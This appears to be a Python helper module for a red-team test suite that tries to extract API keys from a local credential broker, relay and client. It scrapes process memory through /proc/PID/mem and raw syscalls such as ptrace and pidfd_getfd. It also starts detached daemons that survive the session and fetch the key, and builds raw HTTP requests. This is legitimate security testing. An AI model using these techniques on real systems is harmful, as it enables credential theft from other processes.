"""What the attacks are made of: where things are, whom to look into, how to ask.

An attack is a function of a Scene.  Whatever it prints is its loot, which the judge
(judge.py) compares with secrets that no attack is told.  It ends by itself, or is ended."""
import ctypes
import json
import os
import re
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import wire_client as wc

LOCKS = 10           # RLIMIT_LOCKS, whose hard limit is the mark
LIMIT = 8            # seconds for one attack
MOST = 24 << 20      # bytes read of one process
libc = ctypes.CDLL(None, use_errno=True)
NR = {"ptrace": 101, "process_vm_readv": 310, "kcmp": 312, "pidfd_getfd": 438, "perf_event_open": 298,
      "process_madvise": 440, "keyctl": 250, "setns": 308}


class NotHere(Exception):
    """The attack makes no sense on this machine; the text says why."""


class NoService(NotHere):
    """What the attack needs could not be started on this machine."""


class Scene:
    """What an attacker knows of the place, from a file that the runner wrote."""

    def __init__(self, path, vantage="alone"):
        self.path, self.vantage, self.technique = path, vantage, None
        for key, value in json.loads(Path(path).read_text()).items():
            setattr(self, key, value)
        for name in ("home", "cwd", "runtime", "out", "tools", "kit", "config", "data", "state"):
            setattr(self, name, Path(getattr(self, name)))

    @property
    def tag(self):
        """In the body of every request that is not the client's."""
        return f"attack={self.technique}@{self.vantage};"

    @property
    def note(self):
        """A command that leaves a sign: which mark the process bears that ran it."""
        return f"sh {self.kit}/note.sh {self.out}/ran.{self.technique}"

    @property
    def lib(self):
        return self.kit.parents[1] / "lib"

    @property
    def won(self):
        """Where a daemon leaves its loot, with whatever comes behind the name."""
        return self.out / f"won.{self.technique}"

    def asks_later(self):
        """Shell words by which a daemon asks for the key, and uses it."""
        if self.plain:
            return "true"
        return (f"({self.ccctl} get {self.entry} --reveal; {self.ccrun} --exec /usr/bin/env {self.entry}; "
                f"{self.ccrun} {self.entry} -p \"{self.tag}\" < /dev/null) > {self.won} 2>&1")

    def needs(self, service):
        """One of services.py's: NoService with the reason."""
        if service in self.missing:
            raise NoService(self.missing[service])

    @property
    def provider_file(self):
        path = self.config / f"ccrun/providers/{self.provider}.conf"
        if self.plain:
            raise NotHere("no ccrun there")
        return path

    @property
    def ticket(self):
        """Of the session that this process is inside, or was."""
        return os.environ.get("CCRUN_TICKET", "")

    # ---- processes ----

    def pids(self, *names):
        """Processes of this world by name (none: all); the kernel cuts names at 15 characters."""
        parents, found = {}, []
        for entry in filter(str.isdigit, os.listdir("/proc")):
            try:
                text = Path(f"/proc/{entry}/stat").read_text()
            except OSError:
                continue
            name, fields = text[text.index("(") + 1:text.rindex(")")], text[text.rindex(")") + 2:].split()
            parents[int(entry)] = int(fields[1])
            if (name in names or not names) and fields[0] not in "ZX":
                found.append(int(entry))
        return sorted(p for p in found if self.is_ours(p, parents))

    def is_ours(self, pid, parents):
        """Below the runner: others run tests with this uid too."""
        while pid and pid != self.top:
            pid = parents.get(pid, 0)
        return not self.top or pid == self.top

    @property
    def clients(self):
        return self.pids("claude", "victim")

    @property
    def relays(self):
        return self.pids("ccrun-relay")

    @property
    def brokers(self):
        return self.pids("ccbroker")

    @property
    def holders(self):
        """Whoever may have the key in memory, the likeliest first."""
        return [*self.clients, *self.relays, *self.brokers]

    # ---- asking ----

    def run(self, command, timeout=LIMIT - 1, **env):
        """A shell command; what it prints is loot.  Its exit code."""
        if self.plain and ("$CCRUN" in command or "$CCCTL" in command):
            raise NotHere("no ccrun there")
        env = {**os.environ, "CCRUN": self.ccrun, "CCCTL": self.ccctl, "TAG": self.tag, **env}
        try:
            return subprocess.run(["bash", "-c", command], env=env, timeout=timeout, stdin=subprocess.DEVNULL,
                                  stdout=1, stderr=1, check=False).returncode
        except subprocess.TimeoutExpired:
            print("timed out")
            return -1

    def broker(self):
        """A connection to the broker."""
        if self.plain:
            raise NotHere("no broker there")
        return wc.Client(self.socket, timeout=3)

    def ask(self, op, **fields):
        """One request to the broker; the answer is loot."""
        with self.broker() as c:
            packet = c.ask(op, **fields)
        print(op, packet)
        return packet

    def body(self, **more):
        return json.dumps({"model": "claude-attack", "max_tokens": 16,
                           "messages": [{"role": "user", "content": self.tag}], **more}).encode()

    def request(self, line="POST /v1/messages HTTP/1.1", fields=(), body=None):
        body = self.body() if body is None else body
        head = [line, "Host: ccrun.invalid", "Authorization: Bearer placeholder", "Content-Type: application/json",
                "anthropic-version: 2023-06-01", *fields]
        if not any(f.lower().startswith(("content-length", "transfer-encoding")) for f in fields):
            head.append(f"Content-Length: {len(body)}")
        return ("\r\n".join(head) + "\r\n\r\n").encode() + body


def say(sock, data, wait=3.0):
    """Send it over a connection; the answer is loot."""
    sock.settimeout(wait)
    sock.sendall(data)
    got = b""
    try:
        while part := sock.recv(65536):
            got += part
            if b"\r\n0\r\n\r\n" in got or (b"\r\n\r\n" in got and b"chunked" not in got.lower()):
                break
    except OSError as e:
        print("then", e)
    show(got)
    return got


def talk(path, data, wait=3.0):
    """The same with a new connection to a socket's path."""
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(str(path))
        return say(s, data, wait)


def show(data):
    """Loot as it is."""
    sys.stdout.flush()
    os.write(1, data)


def dump(path):
    """A file's bytes, as loot."""
    try:
        with open(path, "rb", buffering=0) as f:
            show(f.read(1 << 20))
    except OSError as e:
        print(path, e.strerror)


def call(name, *args):
    """A system call; its result, or OSError."""
    done = libc.syscall(NR[name], *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if done == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return done


def each(pids, function):
    """function(pid) for each; what refuses is printed.  Nobody there: NotHere."""
    if not pids:
        raise NotHere("no such process in this column")
    for pid in pids:
        try:
            function(pid)
        except OSError as e:
            print(pid, e.strerror)


def ranges(pid):
    """Where a secret would be: the stack, then what can be written, the small first."""
    found = []
    with open(f"/proc/{pid}/maps") as f:
        for line in f:
            m = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw\S+ \S+ \S+ \S+ *(.*)", line)
            if m:
                low, high = int(m[1], 16), int(m[2], 16)
                found.append((m[3] != "[stack]", high - low, low, high))
    left = MOST
    for _, size, low, high in sorted(found):
        if left <= 0:
            return
        yield low, min(size, left), high
        left -= size


def read_through(mem, pid):
    """A process's memory through a descriptor on /proc/PID/mem."""
    for low, size, _ in ranges(pid):
        try:
            show(os.pread(mem, size, low))
        except OSError:
            continue


def until(condition, timeout=LIMIT - 2):
    deadline = time.monotonic() + timeout
    while not (value := condition()):
        if time.monotonic() > deadline:
            return None
        time.sleep(0.01)
    return value


def detach(argv, **kw):
    """A daemon of the attacker's: it goes on when the session is over."""
    return subprocess.Popen(argv, start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL, **kw)


def stop(pid):
    os.kill(pid, signal.SIGSTOP)
